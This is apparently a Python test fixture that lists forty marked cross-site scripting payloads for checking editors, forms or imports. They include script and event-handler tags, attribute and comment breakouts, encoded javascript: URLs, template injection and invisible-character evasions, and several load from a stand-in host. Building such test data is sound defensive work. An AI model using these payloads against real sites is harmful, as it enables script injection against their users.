"""Forty texts that an editor, a form or an import might hold to run a script at somebody else's. Each carries MARK.

Tags, attributes, addresses in many encodings, drawings, template braces, ends of scripts, of attributes, of comments
and of XML sections, turned-round and invisible letters.
"""

MARK = "yhx"

PAYLOADS = [
    # tags
    f"<script>{MARK}(1)</script>",
    f"<ScRiPt src=//{MARK}.example></sCrIpT>",
    f"<script\n>{MARK}(1)</script\n>",
    f"<scr<script>ipt>{MARK}(1)</scr</script>ipt>",
    f"<img src=x onerror={MARK}(1)>",
    f"<img src=x onerror={MARK}(1)//",
    f"<svg/onload={MARK}(1)>",
    f"<svg><script xlink:href='data:,{MARK}'></script></svg>",
    f"<svg><a xlink:href=\"javascript:{MARK}(1)\"><text>x</text></a></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={MARK}(1)>",
    f"<iframe srcdoc='<script>{MARK}(1)</script>'></iframe>",
    f"<body onload={MARK}(1)>",
    f"<details open ontoggle={MARK}(1)>",
    f"<{MARK}-element onclick={MARK}(1)>",
    f"<base href=//{MARK}.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}(1)'>",
    f"<object data='data:text/html,<script>{MARK}(1)</script>'></object>",
    f"<form action=javascript:{MARK}(1)><input type=submit>",
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<style>@import '//{MARK}.example';</style>",
    # ends of what stands around
    f"\" onmouseover=\"{MARK}(1)",
    f"' onfocus='{MARK}(1)' autofocus='",
    f"\"><script>{MARK}(1)</script>",
    f"'><img src=x onerror={MARK}(1)>",
    f"</title></textarea></style></script><script>{MARK}(1)</script>",
    f"--><script>{MARK}(1)</script><!--",
    f"]]><script>{MARK}(1)</script>",
    f"\\u003c/script\\u003e\\u003cscript\\u003e{MARK}(1)</script>",
    f"</script><script>{MARK}(1)//",
    f"\";{MARK}(1);//\\\";{MARK}(2);//",
    # addresses
    f"javascript:{MARK}(1)",
    f"JaVaScRiPt&colon;{MARK}(1)",
    f"java\tscript:{MARK}(1)",
    f"\x01javascript:{MARK}(1)",
    f"&#106;avascript&#58;{MARK}(1)",
    f"data:text/html;base64,PHNjcmlwdD4={MARK}",
    # template braces, letters that turn round or cannot be seen
    f"{{{{7*7}}}}{MARK}{{% now 'Y' %}}${{7*7}}",
    f"{{{{constructor.constructor('{MARK}(1)')()}}}}<b x-init={MARK}(1) data-action={MARK}>",
    f"\u202e>tpircs/<\u202c<script>{MARK}(1)</script>",
    f"\ufeff<\u200bscript>{MARK}</script><img\u00a0src=x\u2028onerror={MARK}(1)>",
]  # fmt: skip
